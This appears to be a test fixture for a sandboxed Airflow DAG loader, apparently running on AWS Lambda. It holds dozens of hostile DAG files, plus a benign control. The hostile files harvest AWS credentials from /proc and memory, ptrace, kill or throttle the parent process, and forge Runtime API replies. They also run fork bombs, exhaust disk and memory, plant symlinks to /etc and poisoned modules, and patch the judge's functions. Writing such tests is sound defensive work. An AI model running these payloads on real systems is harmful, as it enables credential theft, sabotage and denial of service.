"""DAG files that attack what loads them: each does one thing that would reach the file after it, or its own judge.

What a file finds it puts into the tags of its DAG, which come back in the answer. `WHERE` is the folder of temporary
files; `PARENT` the process that judges.
"""

from __future__ import annotations

_HEAD = """
import ctypes, gc, glob, json, os, resource, signal, socket, subprocess, sys, tempfile, threading, time
from contextlib import suppress
from airflow import DAG

PARENT = os.getppid()
WHERE = tempfile.gettempdir()
FOUND = []
LIBC = ctypes.CDLL(None, use_errno=True)

def tries(*steps):
    for step in steps:
        with suppress(BaseException):
            FOUND.append(str(step())[:200])

def rewrites():
    for _ in range(40):
        for place, _, names in os.walk(WHERE):
            for name in names:
                if name.endswith((".py", ".json", ".cfg", ".airflowignore")):
                    with suppress(OSError):
                        open(os.path.join(place, name), "w").write("1 / 0")
        time.sleep(0.05)

REWRITES = '''
import os, time
for _ in range(40):
    for place, _, names in os.walk(%r):
        for name in names:
            try:
                if name.endswith((".py", ".json")): open(os.path.join(place, name), "w").write("1 / 0")
            except OSError:
                pass
    time.sleep(0.05)
''' % WHERE
"""
_TAIL = """
dag = DAG("hostile", tags=[text[:100] for text in FOUND[:50]])
"""

_TRICKS = {
    # ---- what is not the file's to know
    "credentials in variables": "FOUND += [f'{name}={value}' for name, value in os.environ.items()]",
    "credentials of the process": "tries(lambda: open('/proc/self/environ').read().replace('\\0', ' ')[-900:])\n"
    "FOUND += [part for part in open('/proc/self/environ').read().split('\\0') if part]",
    "credentials of the parent": """
for name in glob.glob("/proc/[0-9]*/environ"):
    with suppress(OSError):
        FOUND += [part for part in open(name).read().split(chr(0)) if part.startswith(("AWS_SEC", "AWS_SES", "AWS_ACC"))]
""",
    "credentials from a program": """
FOUND += subprocess.run("env; cat /proc/$PPID/environ /proc/self/environ | tr '\\\\0' '\\\\n'", shell=True,
                        capture_output=True, text=True).stdout.splitlines()
FOUND[:] = [text for text in FOUND if "AWS_" in text]
""",
    "memory of the process": """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        begin, end = (int(part, 16) for part in line.split()[0].split("-"))
        if ("[stack]" in line or "[heap]" in line) and end - begin < 2**28:
            with suppress(OSError):
                memory.seek(begin)
                data = memory.read(end - begin)
                at = data.find(b"AWS_SECRET_ACCESS_KEY=")
                FOUND += [data[at : at + 60].decode("latin-1")] if at >= 0 else []
""",
    "memory of the parent": """
def write():
    with open(f"/proc/{PARENT}/maps") as maps, open(f"/proc/{PARENT}/mem", "r+b", 0) as memory:
        for line in maps:
            if " rw-p " in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(begin)
                memory.write(bytes(end - begin))
tries(write)
""",
    "ptrace": """
tries(lambda: LIBC.ptrace(16, PARENT, 0, 0), lambda: time.sleep(0.1), lambda: LIBC.ptrace(8, PARENT, 0, 0))
buffer = ctypes.create_string_buffer(64)
tries(lambda: LIBC.process_vm_readv(PARENT, buffer, 1, buffer, 1, 0))
subprocess.run([sys.executable, "-S", "-c", f"import ctypes; l = ctypes.CDLL(None); print(l.ptrace(16, {PARENT}, 0, 0))"])
""",
    # ---- the Runtime API
    "the next event": """
def ask():
    address = next(text for text in ADDRESSES if text)
    host, port = address.split(":")
    with socket.create_connection((host, int(port)), timeout=1) as api:
        api.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return api.recv(4096)
own = [part for part in open("/proc/self/environ").read().split(chr(0)) if "RUNTIME_API=" in part]
ADDRESSES = [part.partition("=")[2] for part in own]
tries(ask)
""",
    "an answer by a program": """
import importlib
program = '''
import ctypes, os, re, socket
text = open(f"/proc/{os.getppid()}/environ").read()
address = re.search("RUNTIME_API=([^\\\\0]+)", text)[1]
host, port = address.split(":")
api = socket.create_connection((host, int(port)), timeout=1)
body = b'{"airflow": "3", "loaded": []}'
api.sendall(b"POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\nContent-Length: %d\\\\r\\\\n\\\\r\\\\n"
            % (b"ID", len(body)) + body)
'''
ids = [o.aws_request_id for o in gc.get_objects() if type(o).__name__ == "LambdaContext"]
subprocess.run([sys.executable, "-S", "-c", program.replace("ID", ids[0] if ids else "x")])
""",
    "packets": """
own = [part for part in open("/proc/self/environ").read().split(chr(0)) if "RUNTIME_API=" in part]
host, port = (own or ["=127.0.0.1:9"])[0].partition("=")[2].split(":")
def fast():
    with socket.socket() as api:
        return api.sendto(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\\r\\n\\r\\n", 0x20000000, (host, int(port)))
def message():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendmsg([b"x"], [], 0, (host, int(port)))
tries(fast, message)
""",
    "descriptors of the parent": """
for number in range(3, 256):
    with suppress(OSError):
        os.write(number, b'HTTP/1.1 200 OK\\r\\n\\r\\n{"dag": {"dag_id": "forged"}}\\n')
    with suppress(OSError):
        os.set_blocking(number, False); os.read(number, 100)
for name in glob.glob(f"/proc/{PARENT}/fd/*"):
    with suppress(OSError):
        FOUND.append(os.readlink(name)); open(name, "wb").write(b"x")
pidfd = LIBC.syscall(434, PARENT, 0)
for number in range(3, 64):
    FOUND += ["taken"] if LIBC.syscall(438, pidfd, number, 0) > 0 else []
""",
    # ---- what goes on after the file
    "a session of its own": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        rewrites()
    os._exit(0)
""",
    "a daemon": """
if os.fork() == 0:
    os.setpgid(0, 0); os.setsid()
    for number in range(256):
        with suppress(OSError): os.close(number)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0: rewrites()
    os._exit(0)
os.wait()
""",
    "a program in a new session": "subprocess.Popen([sys.executable, '-S', '-c', REWRITES], start_new_session=True)",
    "a sibling": """
if LIBC.syscall(56 if os.uname().machine == "x86_64" else 220, 0x8000 | 17, 0, 0, 0, 0) == 0:
    rewrites()
    os._exit(0)
""",
    "runners": """
def runs():
    end = time.monotonic() + 6
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)
        with suppress(OSError): os.setsid()
for _ in range(16):
    if os.fork() == 0:
        runs(); os._exit(0)
""",
    "a fork bomb": """
for _ in range(7):
    with suppress(OSError): os.fork()
if os.getppid() != PARENT:
    time.sleep(30); os._exit(0)
""",
    "threads": """
for _ in range(100):
    threading.Thread(target=rewrites, daemon=False).start()
""",
    "at exit": """
import atexit, weakref
atexit.register(rewrites); weakref.finalize(DAG, rewrites)
os.register_at_fork(before=rewrites, after_in_child=rewrites)
""",
    # ---- signals and limits
    "signals to the parent": """
tries(*(lambda n=n: os.kill(PARENT, n) for n in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL)),
      lambda: os.kill(-1, 9), lambda: os.killpg(os.getpgid(PARENT), 9),
      lambda: signal.pidfd_send_signal(os.pidfd_open(PARENT), 9), lambda: LIBC.syscall(200, PARENT, 9),
      lambda: LIBC.syscall(234, PARENT, PARENT, 9), lambda: LIBC.sigqueue(PARENT, 9, 0))
subprocess.run(f"kill -9 {PARENT}", shell=True, capture_output=True)
""",
    "signals by descriptors": """
import fcntl
def owned():
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, PARENT); fcntl.fcntl(ours, 10, signal.SIGKILL)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")
tries(owned)
""",
    "limits of the parent": """
for what in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
    tries(lambda: resource.prlimit(PARENT, what, (1, 1)))
if "Seccomp:\t2" in open("/proc/self/status").read():  # else it would slow the whole machine down
    tries(lambda: os.setpriority(os.PRIO_USER, 0, 19))
tries(lambda: os.setpriority(os.PRIO_PROCESS, PARENT, 19),
      lambda: os.sched_setscheduler(PARENT, os.SCHED_IDLE, os.sched_param(0)))
""",
    "its own limits": """
for what in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
    tries(lambda: resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))
tries(lambda: len(bytearray(2 * 1024**3)))
""",
    # ---- what a sandbox has only so much of
    "a full disk": """
number = 0
with suppress(OSError):
    while True:
        number += 1
        file = os.open(f"{WHERE}/full{number}", os.O_CREAT | os.O_WRONLY)
        os.posix_fallocate(file, 0, 2**20 if number > 6 else 32 * 2**20)
""",
    "no inodes": """
number = 0
with suppress(OSError):
    folder = os.open(WHERE, os.O_RDONLY)
    while True:
        number += 1
        LIBC.mknodat(folder, b"inode%d" % number, 0o100600, 0) == 0 or (_ for _ in ()).throw(OSError())
""",
    "memory": """
kept = []
with suppress(MemoryError):
    while True: kept.append(bytearray(64 * 1024**2))
""",
    "shared memory": """
import mmap
from multiprocessing import shared_memory
area = mmap.mmap(-1, 64 * 1024**2); area[:4096] = bytes(4096)
FOUND.append(f"shmget {LIBC.shmget(4711, 1024**2, 0o1666)}")
tries(lambda: os.write(os.memfd_create("x"), bytes(1024**2)))
""",
    "deep folders": """
os.chdir(WHERE)
for _ in range(3000):
    LIBC.mkdir(b"d", 0o700); LIBC.chdir(b"d")
LIBC.mknod(b"bottom.py", 0o100600, 0)
""",
    "folders that nobody may enter": """
for number in range(50):
    os.makedirs(f"{WHERE}/shut{number}/in/it"); open(f"{WHERE}/shut{number}/in/it/x", "w").close()
    os.mkfifo(f"{WHERE}/shut{number}/pipe"); os.chmod(f"{WHERE}/shut{number}/in", 0); os.chmod(f"{WHERE}/shut{number}", 0)
""",
    # ---- what stands where the next one looks
    "symlinks": """
for home in glob.glob(f"{WHERE}/airflow-*"):
    for name in ("dags", "plugins", "config", "logs", "written"):
        subprocess.run(["rm", "-rf", f"{home}/{name}"]); os.symlink("/etc", f"{home}/{name}")
    os.unlink(f"{home}/airflow.cfg"); os.symlink("/dev/zero", f"{home}/airflow.cfg")
""",
    "another home": """
for home in glob.glob(f"{WHERE}/airflow-*"):
    os.rename(home, f"{WHERE}/elsewhere"); os.symlink(f"{WHERE}/elsewhere", home)
""",
    "the configuration": """
for home in glob.glob(f"{WHERE}/airflow-*"):
    open(f"{home}/airflow.cfg", "w").write("[core]\\ndag_discovery_safe_mode = maybe\\nparallelism = x\\n")
    for name in glob.glob(f"{home}/*.db"): open(name, "w").write("garbage")
    for place in ("config", "plugins", "dags"):
        os.makedirs(f"{home}/{place}", exist_ok=True)
        for module in ("airflow_local_settings", "sitecustomize", "usercustomize", "jetway_loader", "pandas", "helper"):
            open(f"{home}/{place}/{module}.py", "w").write("raise SystemExit(9)")
        open(f"{home}/{place}/.airflowignore", "w").write(".*\\n*\\n")
""",
    "modules in the temporary folder": """
for module in ("airflow", "json", "jetway_loader", "sitecustomize", "zipfile"):
    open(f"{WHERE}/{module}.py", "w").write("raise SystemExit(9)")
open(f"{WHERE}/x.pth", "w").write("import os; os._exit(9)")
""",
    "variables": """
for name in ("LD_PRELOAD", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "TMPDIR", "AIRFLOW_HOME", "AIRFLOW__CORE__DAGS_FOLDER"):
    os.environ[name] = "/nowhere"; os.putenv(name, "/nowhere")
os.umask(0o777)
with suppress(OSError): os.chdir("/")
""",
    "locks": """
import fcntl
for name in glob.glob(f"{WHERE}/airflow-*/airflow*"):
    handle = open(name); FOUND.append(handle.name); fcntl.flock(handle, fcntl.LOCK_EX); globals()[name] = handle
if os.fork() == 0: time.sleep(20); os._exit(0)
""",
    # ---- the judge's own code and words
    "forged answers": """
def pipes():
    for holder in gc.get_objects():
        if getattr(holder, "__qualname__", "").endswith("tell"):
            for cell in holder.__closure__ or ():
                if isinstance(cell.cell_contents, (int, bytes)): yield cell.cell_contents
parts = list(pipes())
number, mark = next(p for p in parts if isinstance(p, int)), next(p for p in parts if isinstance(p, bytes))
for entry in ({"dag": {"dag_id": 5}}, {"done": True}, {"advice": {"rule": []}}, {"unseen": 7}, {"error": 1}, 17, [[]],
              {"seconds": "](javascript:alert(1))"}, {"siblings": "x", "read": {}}, {"begun": [[[]]]}):
    os.write(number, mark + json.dumps(entry).encode() + b"\\n")
os.write(number, mark + b"[" * 100_000 + b"\\n"); os.write(number, mark + b'{"done": ' + b"9" * 5000 + b"}\\n")
os.write(number, mark + b'{"done": true, "seconds": NaN, "cpu_seconds": Infinity}\\n')
""",
    "a forged answer without end": """
for number in range(3, 64):
    with suppress(OSError):
        if os.readlink(f"/proc/self/fd/{number}").startswith("pipe"):
            while True: os.write(number, b"x" * 65536)
""",
    "patched functions": """
import builtins, importlib, io, pickle
json.dumps = json.loads = lambda *a, **k: "{}"
for name in ("write", "read", "kill", "waitpid", "_exit", "fork", "stat", "listdir"): setattr(os, name, lambda *a, **k: 0)
builtins.open = builtins.print = io.open = lambda *a, **k: None
time.sleep = time.monotonic = lambda *a: 0
""",
    "patched loader": """
for name, module in list(sys.modules.items()):
    if name.startswith(("jetway_loader", "app", "awslambdaric")):
        for key in list(vars(module)):
            with suppress(Exception): setattr(module, key, None)
""",
    "no modules": "for name in list(sys.modules):\n    if name != '__main__': sys.modules.pop(name)\nsys.path.clear(); sys.meta_path.clear()",
    "hooks": """
def refuse(*_): raise SystemExit("refused")
sys.addaudithook(lambda event, args: refuse() if event in ("open", "os.kill", "marshal.loads") else None)
sys.settrace(refuse); threading.settrace(refuse); sys.excepthook = refuse; gc.callbacks.append(refuse)
""",
    # ---- ends
    "exit 75": "os._exit(75)",
    "a crash": "ctypes.string_at(0)",
    "it kills itself": "os.kill(os.getpid(), signal.SIGKILL)",
    "it stops": "os.kill(os.getpid(), signal.SIGSTOP)",
    "it becomes a program": "os.execv('/bin/sh', ['sh', '-c', 'kill -9 $PPID; exit 0'])",
    "a long error": "raise ValueError('x' * 8_000_000)",
    "an odd error": "raise type('\\x1b[31m](javascript:x)\\n', (Exception,), {})('\\u202e' * 2000)",
}

HOSTILE: dict[str, str] = {name: _HEAD + code + _TAIL for name, code in _TRICKS.items()}

GOOD: dict[str, str] = {
    "good.py": """
import json, os, subprocess, tempfile
from datetime import datetime
from pathlib import Path
from airflow import DAG
from airflow.operators.python import PythonOperator
from helper import name

tables = json.loads((Path(__file__).parent / "tables.json").read_text())
with tempfile.TemporaryDirectory() as place:
    Path(place, "note").write_text("there is room")
with DAG(name, start_date=datetime(2024, 1, 1), schedule="@daily", tags=sorted(tables)) as dag:
    for table in tables:
        PythonOperator(task_id=table, python_callable=print)
""",
    "helper.py": 'name = "good"\n',
    "tables.json": '["orders", "stock"]',
}
